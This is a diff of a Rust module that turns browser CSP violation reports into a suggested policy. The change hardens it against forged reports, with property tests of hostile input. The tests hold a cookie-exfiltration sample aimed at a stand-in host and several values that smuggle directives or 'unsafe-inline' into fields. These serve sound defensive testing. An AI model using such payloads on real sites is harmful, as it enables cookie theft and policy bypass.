@@ -1,25 +1,37 @@
 //! The policy the reports ask for: each CSP problem seen often enough becomes a source in the
 //! directive a person would edit, and everything left out says why.
 //!
-//! Rules, in order, for each problem (a group of identical reports):
+//! Anyone can POST a report, so nothing here trusts report text: the base is the owner's policy
+//! (never one a report carries), and what a report names is parsed into a source expression
+//! ([`super::source`]) or left out. Rules, in order, for each problem (a group of identical
+//! reports):
 //! 1. Reports their own policy allows (`allowed-by-policy`) or cannot be judged
 //!    (`indeterminate`) are left out: adding a source would not change what the browser does.
-//! 2. Too few reports or browsers: left out (thresholds).
+//! 2. Too few reports or browsers: left out (thresholds against noise, not against forgers).
 //! 3. A document outside the site (a copy, a proxy, a test page): left out.
-//! 4. What is blocked becomes a source: the blocked origin (`'self'` when it is the document's),
-//!    a scheme (`data:`, `blob:`), `'wasm-unsafe-eval'`; inline code becomes the hash of its
-//!    sample when the sample is the whole code (shorter than the 40 characters browsers send).
-//!    `'unsafe-inline'` and `'unsafe-eval'` are never added: they are left out with what they
-//!    would allow, for a person to decide.
-//! 5. The directive to edit is the effective one if the policy has it, else its parent
+//! 4. Only fetch directives are changed; `frame-ancestors`, `form-action`, `base-uri`,
+//!    `report-uri` and the like are the owner's alone.
+//! 5. What is blocked becomes a source when it parses as one: the blocked origin (`'self'` when
+//!    it is the document's; never a wildcard), `data:`/`blob:` only where they cannot run code,
+//!    `'wasm-unsafe-eval'` in script directives. Inline code becomes the hash of its sample only
+//!    with [`Rules::hash_samples`]. `'unsafe-inline'` and `'unsafe-eval'` are never added.
+//! 6. The directive to edit is the effective one if the policy has it, else its parent
 //!    (`script-src` for `script-src-elem`), else a new one seeded with the sources of the
 //!    directive that governed it until now (`default-src`), so nothing allowed before is lost.
+//! 7. A source that would take the policy over [`MAX_POLICY_BYTES`] is left out, and the
+//!    result is parsed back as browsers parse it and must hold exactly what was built.
 
 use serde::Serialize;
 use sha2::{Digest, Sha256};
 
 use super::directives::{Directive, Policy};
+use super::source::{FetchDirective, HostSource, Refused, Source};
 use crate::report::{Classification, SAMPLE_PREFIX_CHARS};
+
+/// The largest policy the builder writes, in bytes: with Lookout's `report-uri` and `report-to`
+/// added it stays under the 4 KiB a header may hold before proxies refuse it (nginx's default
+/// proxy buffer, see `snippet::MAX_HEADER_BYTES`). What would not fit is left out, named.
+pub const MAX_POLICY_BYTES: usize = 3_584;
 
 /// One CSP problem as the aggregates hold it.
 #[derive(Debug, Clone)]
@@ -38,11 +50,66 @@ pub struct Observation {
     pub browsers: usize,
 }
 
-/// How much a problem must have been seen to shape the policy.
+/// What a problem must show to shape the policy. The counts filter noise (one visitor's odd
+/// browser), not adversaries: a report's count and browser are the sender's to choose.
 #[derive(Debug, Clone, Copy)]
-pub struct Thresholds {
+pub struct Rules {
     pub min_reports: u64,
     pub min_browsers: usize,
+    /// Whether inline code may be allowed by the hash of its reported sample. Off by default:
+    /// the sample is the sender's text, so its hash allows whatever code a forger (or the very
+    /// injection the policy blocked) chose.
+    pub hash_samples: bool,
+}
+
+/// Why a problem is left out of the suggestion.
+#[derive(Debug, Clone, Copy, Serialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum Reason {
+    AllowedByPolicy,
+    Indeterminate,
+    TooFewReports,
+    TooFewBrowsers,
+    ForeignDocument,
+    NotAFetchDirective,
+    NotASource,
+    SchemeRunsCode,
+    InlineCode,
+    InlineAttribute,
+    UnsafeInline,
+    UnsafeEval,
+    TrustedTypes,
+    NotRestricted,
+    TooLarge,
+}
+
+impl Reason {
+    /// The reason as JSON spells it.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::AllowedByPolicy => "allowed_by_policy",
+            Self::Indeterminate => "indeterminate",
+            Self::TooFewReports => "too_few_reports",
+            Self::TooFewBrowsers => "too_few_browsers",
+            Self::ForeignDocument => "foreign_document",
+            Self::NotAFetchDirective => "not_a_fetch_directive",
+            Self::NotASource => "not_a_source",
+            Self::SchemeRunsCode => "scheme_runs_code",
+            Self::InlineCode => "inline_code",
+            Self::InlineAttribute => "inline_attribute",
+            Self::UnsafeInline => "unsafe_inline",
+            Self::UnsafeEval => "unsafe_eval",
+            Self::TrustedTypes => "trusted_types",
+            Self::NotRestricted => "not_restricted",
+            Self::TooLarge => "too_large",
+        }
+    }
+}
+
+impl std::fmt::Display for Reason {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.as_str())
+    }
 }
 
 /// A source the suggestion adds.
@@ -65,8 +132,7 @@ pub struct LeftOut {
     pub blocked: String,
     pub document: String,
     pub reports: u64,
-    /// A short code (`too_few_reports`, `unsafe_inline`, ...).
-    pub reason: &'static str,
+    pub reason: Reason,
     /// What it means and what to do.
     pub advice: String,
 }
@@ -80,13 +146,19 @@ pub struct Suggestion {
     pub left_out: Vec<LeftOut>,
 }
 
-/// The suggestion for `site`, from `base` and the problems seen.
+/// The suggestion read back as browsers parse it did not hold what the builder meant: a bug,
+/// and nothing is printed.
+#[derive(Debug, thiserror::Error)]
+#[error("the suggested policy does not parse back into what was built: {0}")]
+pub struct NotParsedBack(pub String);
+
+/// The suggestion for `site`, from the owner's `base` policy and the problems seen.
 pub fn suggest(
     base: &Policy,
     site: &str,
     observations: &[Observation],
-    t: Thresholds,
-) -> Suggestion {
+    rules: Rules,
+) -> Result<Suggestion, NotParsedBack> {
     let mut policy = base.clone();
     let mut added = Vec::new();
     let mut left_out = Vec::new();
@@ -106,133 +178,165 @@ pub fn suggest(
             reason,
             advice,
         };
-        match source_for(o, site, t) {
-            Err((reason, advice)) => left_out.push(leave(reason, advice)),
-            Ok(source) => match edit(&mut policy, &o.directive, &source) {
-                Edit::Added { seeded_from } => added.push(Added {
-                    directive: target_name(&policy, &o.directive),
-                    source,
-                    reports: o.reports,
-                    browsers: o.browsers,
-                    seeded_from,
-                }),
-                Edit::AlreadyThere => {}
-                Edit::NotRestricted => left_out.push(leave(
-                    "not_restricted",
+        let (directive, source) = match source_for(o, site, rules) {
+            Err((reason, advice)) => {
+                left_out.push(leave(reason, advice));
+                continue;
+            }
+            Ok(found) => found,
+        };
+        let before = policy.clone();
+        match edit(&mut policy, directive, &source) {
+            Edit::Added { .. } if policy.to_string().len() > MAX_POLICY_BYTES => {
+                policy = before;
+                left_out.push(leave(
+                    Reason::TooLarge,
                     format!(
-                        "the policy does not restrict {}: nothing to add (was the report from another policy?)",
-                        o.directive
+                        "{source} would take the policy over {MAX_POLICY_BYTES} bytes: allow it by hand if it is yours (hundreds of hosts are rarely real; they are what a flood of forged reports looks like)"
                     ),
-                )),
-            },
+                ));
+            }
+            Edit::Added { seeded_from } => added.push(Added {
+                directive: target_name(&policy, directive.name()),
+                source: source.to_string(),
+                reports: o.reports,
+                browsers: o.browsers,
+                seeded_from,
+            }),
+            Edit::AlreadyThere => {}
+            Edit::NotRestricted => left_out.push(leave(
+                Reason::NotRestricted,
+                format!(
+                    "the policy does not restrict {}: nothing to add (was the report from another policy?)",
+                    directive.name()
+                ),
+            )),
         }
     }
-    Suggestion {
+    policy.check_parses_back().map_err(NotParsedBack)?;
+    Ok(Suggestion {
         base: base.clone(),
         policy,
         added,
         left_out,
-    }
+    })
 }
 
-/// The source that would allow what `o` reports, or why there is none to add.
+/// The source that would allow what `o` reports and the directive it is for, or why there is
+/// none to add.
 fn source_for(
     o: &Observation,
     site: &str,
-    t: Thresholds,
-) -> Result<String, (&'static str, String)> {
+    rules: Rules,
+) -> Result<(FetchDirective, Source), (Reason, String)> {
     match o.classification {
         Some(Classification::AllowedByPolicy) => {
             return Err((
-                "allowed_by_policy",
+                Reason::AllowedByPolicy,
                 "the report's own policy allows this: it came from an extension, a proxy or a second policy (a <meta> beside the header), not from this policy".into(),
             ));
         }
         Some(Classification::Indeterminate) => {
             return Err((
-                "indeterminate",
+                Reason::Indeterminate,
                 "whether the policy blocks this depends on what the report does not carry (a nonce, a hash, 'strict-dynamic', a URL cut to its origin): check it by hand".into(),
             ));
         }
         _ => {}
     }
-    if o.reports < t.min_reports {
+    if o.reports < rules.min_reports {
         return Err((
-            "too_few_reports",
+            Reason::TooFewReports,
             format!(
                 "{} report(s), under --min-reports {}",
-                o.reports, t.min_reports
+                o.reports, rules.min_reports
             ),
         ));
     }
-    if o.browsers < t.min_browsers {
+    if o.browsers < rules.min_browsers {
         return Err((
-            "too_few_browsers",
+            Reason::TooFewBrowsers,
             format!(
                 "{} browser(s), under --min-browsers {}",
-                o.browsers, t.min_browsers
+                o.browsers, rules.min_browsers
             ),
         ));
     }
-    let document_origin = origin_of(&o.document);
-    if !host_of_origin(document_origin)
-        .is_some_and(|h| h == site || h.ends_with(&format!(".{site}")))
-    {
-        return Err((
-            "foreign_document",
+    let document = HostSource::parse(origin_of(&o.document))
+        .ok()
+        .filter(|d| d.host() == site || d.host().ends_with(&format!(".{site}")))
+        .ok_or_else(|| {
+            (
+                Reason::ForeignDocument,
+                format!(
+                    "reported from {}, a page outside {site} (a copy, a proxy or a test page)",
+                    o.document
+                ),
+            )
+        })?;
+    let directive = FetchDirective::parse(&o.directive).ok_or_else(|| {
+        (
+            Reason::NotAFetchDirective,
             format!(
-                "reported from {}, a page outside {site} (a copy, a proxy or a test page)",
-                o.document
+                "{} is not a fetch directive: reports never change navigation, document or reporting directives; only you do",
+                o.directive
             ),
-        ));
-    }
+        )
+    })?;
     let attr = o.directive.ends_with("-attr");
-    match o.blocked.as_str() {
-        "'unsafe-inline'" => match o.sample.as_deref().filter(|s| is_whole(s)) {
-            Some(code) if !attr => Ok(hash_source(code)),
-            Some(code) => Err((
-                "inline_attribute",
-                format!(
-                    "an inline attribute (onclick=, style=): move it into a script or stylesheet, or allow exactly it with 'unsafe-hashes' {}",
-                    hash_source(code)
-                ),
-            )),
-            None => Err((
-                "unsafe_inline",
-                format!(
-                    "inline code{}: give it a nonce or a hash, or move it to a file; 'unsafe-inline' would allow any inline code, including an attacker's",
-                    match &o.sample {
-                        Some(s) => format!(" starting {s:?} (the sample is cut, so its hash is unknown: hash the whole code)"),
-                        None => " without a sample (add 'report-sample' to the policy to see it)".into(),
-                    }
-                ),
-            )),
-        },
-        "'unsafe-eval'" => Err((
-            "unsafe_eval",
-            "eval() or new Function(): replace it; 'unsafe-eval' would let any string run as code".into(),
-        )),
-        "'wasm-unsafe-eval'" => Ok("'wasm-unsafe-eval'".into()),
-        b if b.starts_with("trusted-types-") => Err((
-            "trusted_types",
-            "a Trusted Types violation: fix the sink or name a Trusted Types policy; no source allows it".into(),
-        )),
-        b if b.ends_with(':') && !b.contains('/') => match b {
-            "data:" | "blob:" | "mediastream:" | "filesystem:" => Ok(b.to_owned()),
-            _ => Err((
-                "not_a_source",
-                format!("the scheme {b} is not one a page's policy should allow"),
-            )),
-        },
-        b if b.contains("://") => {
-            if b.eq_ignore_ascii_case(document_origin) {
-                Ok("'self'".into())
-            } else {
-                Ok(b.to_owned())
-            }
+    let source = match o.blocked.as_str() {
+        "'unsafe-inline'" => {
+            let whole = o.sample.as_deref().filter(|s| is_whole(s));
+            return match whole {
+                Some(code) if rules.hash_samples && !attr => {
+                    Ok((directive, Source::Hash(hash_source(code))))
+                }
+                Some(_) if attr => Err((
+                    Reason::InlineAttribute,
+                    "an inline attribute (onclick=, style=): move it into a script or stylesheet"
+                        .into(),
+                )),
+                Some(code) => Err((
+                    Reason::InlineCode,
+                    format!(
+                        "inline code {code:?}: if it is yours, give it a nonce or the hash of your own source (--hash-samples would hash the reported sample instead, which allows exactly the code in the report: a forger's, or the injection the policy blocked)"
+                    ),
+                )),
+                None => Err((
+                    Reason::UnsafeInline,
+                    format!(
+                        "inline code{}: give it a nonce or a hash, or move it to a file; 'unsafe-inline' would allow any inline code, including an attacker's",
+                        match &o.sample {
+                            Some(s) => format!(
+                                " starting {s:?} (the sample is cut, so its hash is unknown: hash the whole code)"
+                            ),
+                            None =>
+                                " without a sample (add 'report-sample' to the policy to see it)"
+                                    .into(),
+                        }
+                    ),
+                )),
+            };
         }
-        b => Err(("not_a_source", format!("{b} is no source to allow"))),
-    }
+        "'unsafe-eval'" => {
+            return Err((
+                Reason::UnsafeEval,
+                "eval() or new Function(): replace it; 'unsafe-eval' would let any string run as code".into(),
+            ));
+        }
+        "'wasm-unsafe-eval'" if directive.is_script() => Source::WasmUnsafeEval,
+        b if b.starts_with("trusted-types-") => {
+            return Err((
+                Reason::TrustedTypes,
+                "a Trusted Types violation: fix the sink or name a Trusted Types policy; no source allows it".into(),
+            ));
+        }
+        b => Source::for_blocked(b, directive, &document).map_err(|e| match e {
+            Refused::SchemeRunsCode { .. } => (Reason::SchemeRunsCode, e.to_string()),
+            _ => (Reason::NotASource, format!("not a source to allow: {e}")),
+        })?,
+    };
+    Ok((directive, source))
 }
 
 /// Whether a sample is the whole code: browsers send the first 40 characters.
@@ -260,14 +364,6 @@ fn origin_of(document: &str) -> &str {
         }
         None => document,
     }
-}
-
-fn host_of_origin(origin: &str) -> Option<&str> {
-    let host_port = origin.split_once("://")?.1;
-    Some(match host_port.rsplit_once(':') {
-        Some((h, p)) if p.bytes().all(|b| b.is_ascii_digit()) => h,
-        _ => host_port,
-    })
 }
 
 /// The directive that a source for `effective` goes in, as [`edit`] would choose it.
@@ -309,8 +405,8 @@ enum Edit {
 }
 
 /// Adds `source` where it allows `effective`.
-fn edit(policy: &mut Policy, effective: &str, source: &str) -> Edit {
-    let name = target_name(policy, effective);
+fn edit(policy: &mut Policy, effective: FetchDirective, source: &Source) -> Edit {
+    let name = target_name(policy, effective.name());
     if let Some(d) = policy.get_mut(&name) {
         return if d.add(source) {
             Edit::Added { seeded_from: None }
@@ -368,10 +464,17 @@ mod tests {
         }
     }
 
-    const ANY: Thresholds = Thresholds {
+    const ANY: Rules = Rules {
         min_reports: 1,
         min_browsers: 1,
+        hash_samples: false,
     };
+
+    fn reasons(s: &Suggestion) -> Vec<&'static str> {
+        let mut r: Vec<&str> = s.left_out.iter().map(|l| l.reason.as_str()).collect();
+        r.sort();
+        r
+    }
 
     #[test]
     fn sources_go_where_a_person_would_put_them() {
@@ -384,13 +487,14 @@ mod tests {
                 obs("img-src", "data:", 5),
                 obs("img-src", "https://example.com", 4),
                 obs("connect-src", "https://api.example.org", 3),
-                obs("worker-src", "blob:", 2),
+                obs("worker-src", "https://w.example.org", 2),
             ],
             ANY,
-        );
+        )
+        .unwrap();
         assert_eq!(
             s.policy.to_string(),
-            "default-src 'self'; script-src 'self' https://cdn.example.net; report-uri /r; img-src 'self' data:; connect-src 'self' https://api.example.org; worker-src 'self' https://cdn.example.net blob:"
+            "default-src 'self'; script-src 'self' https://cdn.example.net; report-uri /r; img-src 'self' data:; connect-src 'self' https://api.example.org; worker-src 'self' https://cdn.example.net https://w.example.org"
         );
         let img = s.added.iter().find(|a| a.source == "data:").unwrap();
         assert_eq!(img.seeded_from.as_deref(), Some("default-src"));
@@ -406,18 +510,24 @@ mod tests {
     }
 
     #[test]
-    fn inline_code_becomes_a_hash_only_when_the_sample_is_whole() {
+    fn inline_code_becomes_a_hash_only_when_the_owner_asks_and_the_sample_is_whole() {
         let base = Policy::parse("script-src 'self' 'report-sample'");
         let mut short = obs("script-src-elem", "'unsafe-inline'", 3);
         short.sample = Some("document.title=\"ok\"".into());
         let mut long = obs("script-src-elem", "'unsafe-inline'", 3);
         long.fingerprint = "long".into();
         long.sample = Some("x".repeat(40));
-        let s = suggest(&base, "example.com", &[short, long], ANY);
-        // echo -n 'document.title="ok"' | openssl dgst -sha256 -binary | base64
+        let both = [short, long];
+        let s = suggest(&base, "example.com", &both, ANY).unwrap();
+        assert_eq!(s.policy, base, "no hash from report text by default");
+        assert_eq!(reasons(&s), ["inline_code", "unsafe_inline"]);
+        let asked = Rules {
+            hash_samples: true,
+            ..ANY
+        };
+        let s = suggest(&base, "example.com", &both, asked).unwrap();
         assert!(s.policy.to_string().contains("'sha256-"), "{}", s.policy);
-        assert_eq!(s.left_out.len(), 1);
-        assert_eq!(s.left_out[0].reason, "unsafe_inline");
+        assert_eq!(reasons(&s), ["unsafe_inline"]);
         assert!(!s.policy.to_string().contains("'unsafe-inline'"));
     }
 
@@ -440,19 +550,21 @@ mod tests {
                 obs("img-src", "https://d.example", 1),
                 obs("script-src-elem", "'unsafe-eval'", 10),
                 obs("require-trusted-types-for", "trusted-types-sink", 10),
+                obs("script-src-elem", "trusted-types-sink", 10),
             ],
-            Thresholds {
+            Rules {
                 min_reports: 2,
                 min_browsers: 2,
+                hash_samples: false,
             },
-        );
-        let mut reasons: Vec<&str> = s.left_out.iter().map(|l| l.reason).collect();
-        reasons.sort();
+        )
+        .unwrap();
         assert_eq!(
-            reasons,
+            reasons(&s),
             [
                 "allowed_by_policy",
                 "foreign_document",
+                "not_a_fetch_directive",
                 "too_few_browsers",
                 "too_few_reports",
                 "trusted_types",
@@ -463,11 +575,163 @@ mod tests {
     }
 
     #[test]
+    fn forged_reports_do_not_write_the_policy() {
+        let base = Policy::parse(
+            "default-src 'self'; object-src 'none'; frame-ancestors 'none'; form-action 'self'; base-uri 'none'; report-uri https://c.example/r/example.com",
+        );
+        let mut forged = vec![
+            obs("script-src-elem", "https://*", 50),
+            obs("script-src-elem", "http://*:*", 50),
+            obs(
+                "script-src-elem",
+                "https://cdn.example\t'unsafe-inline'\t'unsafe-eval'",
+                50,
+            ),
+            obs(
+                "script-src-elem",
+                "https://cdn.example\u{c}'unsafe-inline'",
+                50,
+            ),
+            obs("img-src", "https://cdn.example;script-src-elem", 50),
+            obs("img-src", "https://cdn3.example,script-src", 50),
+            obs("img-src", "https://cdn\u{1b}[2J\u{1b}[1;1H.example", 50),
+            obs("script-src-elem", "data:", 50),
+            obs("script-src-elem", "blob:", 50),
+            obs("object-src", "data:", 50),
+            obs("worker-src", "blob:", 50),
+            obs("script-src-elem", "https:", 50),
+            obs("frame-ancestors", "https://evil.example", 50),
+            obs("form-action", "https://evil.example", 50),
+            obs("base-uri", "https://evil.example", 50),
+            obs("report-uri", "https://evil.example", 50),
+            obs("default-src", "https://evil.example", 50),
+        ];
+        let mut inline = obs("script-src-elem", "'unsafe-inline'", 50);
+        inline.sample = Some("location='//e.vil/?'+document.cookie".into());
+        forged.push(inline);
+        let s = suggest(&base, "example.com", &forged, ANY).unwrap();
+        assert_eq!(s.policy, base, "added: {:?}", s.added);
+        assert_eq!(s.left_out.len(), forged.len());
+        let unicode = suggest(
+            &base,
+            "example.com",
+            &[obs("img-src", "https://例え.example", 5)],
+            ANY,
+        )
+        .unwrap();
+        assert!(
+            unicode
+                .policy
+                .to_string()
+                .contains("img-src 'self' https://xn--r8jz45g.example"),
+            "{}",
+            unicode.policy
+        );
+    }
+
+    #[test]
+    fn three_thousand_forged_hosts_leave_the_policy_under_its_ceiling() {
+        let base = Policy::parse("default-src 'self'");
+        let forged: Vec<Observation> = (0..3000)
+            .map(|i| obs("img-src", &format!("https://x{i}.flood.example"), 6))
+            .collect();
+        let s = suggest(&base, "example.com", &forged, ANY).unwrap();
+        let len = s.policy.to_string().len();
+        assert!(len <= MAX_POLICY_BYTES, "{len}");
+        assert!(s.added.len() > 100, "what fits is still suggested");
+        let too_large = s
+            .left_out
+            .iter()
+            .filter(|l| l.reason == Reason::TooLarge)
+            .count();
+        assert_eq!(s.added.len() + too_large, 3000);
+    }
+
+    #[test]
     fn the_hash_is_csp_s_sha256_of_the_code() {
         // The value browsers compute for <script>alert(1)</script> (a well-known example).
         assert_eq!(
             hash_source("alert(1)"),
             "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
         );
+    }
+
+    mod hostile {
+        use super::*;
+        use proptest::prelude::*;
+
+        fn directive() -> impl Strategy<Value = String> {
+            prop_oneof![
+                Just("script-src-elem".to_owned()),
+                Just("img-src".to_owned()),
+                Just("worker-src".to_owned()),
+                Just("object-src".to_owned()),
+                Just("frame-ancestors".to_owned()),
+                Just("report-uri".to_owned()),
+                "[a-z-]{1,20}",
+                "\\PC{0,12}",
+            ]
+        }
+
+        fn blocked() -> impl Strategy<Value = String> {
+            prop_oneof![
+                "(https?|wss?|data|blob|javascript|filesystem)://[a-z0-9.*;,$'{}\\t\\x0c\\x1b -]{0,30}",
+                "(https?)://\\PC{0,20}",
+                "\\PC{0,24}",
+                "[a-z]{1,10}:",
+                Just("'unsafe-inline'".to_owned()),
+                Just("'unsafe-eval'".to_owned()),
+                Just("'wasm-unsafe-eval'".to_owned()),
+            ]
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(512))]
+            /// Whatever reports say, the suggestion parses back as built, stays under its
+            /// ceiling, changes only fetch directives with visible-ASCII sources, and never
+            /// allows what runs arbitrary code.
+            #[test]
+            fn any_reports_give_a_policy_that_holds(
+                items in proptest::collection::vec((directive(), blocked(), proptest::option::of("\\PC{0,45}"), 1u64..50), 0..40),
+                hash_samples in any::<bool>(),
+            ) {
+                let base = Policy::parse("default-src 'self'; object-src 'none'; frame-ancestors 'none'; report-uri https://c.example/r");
+                let observations: Vec<Observation> = items
+                    .into_iter()
+                    .enumerate()
+                    .map(|(i, (d, b, sample, n))| Observation {
+                        fingerprint: format!("{i:016x}"),
+                        sample,
+                        ..obs(&d, &b, n)
+                    })
+                    .collect();
+                let rules = Rules { hash_samples, ..ANY };
+                let s = suggest(&base, "example.com", &observations, rules).unwrap();
+                let text = s.policy.to_string();
+                prop_assert!(text.len() <= MAX_POLICY_BYTES.max(base.to_string().len()));
+                prop_assert_eq!(s.policy.check_parses_back(), Ok(()));
+                for d in &s.policy.directives {
+                    let was = base.get(&d.name);
+                    if was != Some(d) {
+                        prop_assert!(FetchDirective::parse(&d.name).is_some(), "{} changed", d.name);
+                    }
+                    for src in &d.sources {
+                        prop_assert!(super::super::super::source::is_source_token(src));
+                        prop_assert!(!src.contains('*'), "{}", src);
+                        let lower = src.to_ascii_lowercase();
+                        prop_assert!(!matches!(lower.as_str(), "'unsafe-inline'" | "'unsafe-eval'" | "https:" | "http:"), "{}", src);
+                        if matches!(d.name.as_str(), "script-src" | "script-src-elem" | "worker-src" | "frame-src" | "child-src" | "object-src") {
+                            prop_assert!(!matches!(lower.as_str(), "data:" | "blob:" | "filesystem:"), "{} in {}", src, d.name);
+                        }
+                        if !hash_samples {
+                            prop_assert!(!src.starts_with("'sha256-"), "{}", src);
+                        }
+                    }
+                }
+                prop_assert_eq!(s.policy.get("frame-ancestors"), base.get("frame-ancestors"));
+                prop_assert_eq!(s.policy.get("report-uri"), base.get("report-uri"));
+                prop_assert_eq!(s.policy.get("object-src"), base.get("object-src"));
+            }
+        }
     }
 }
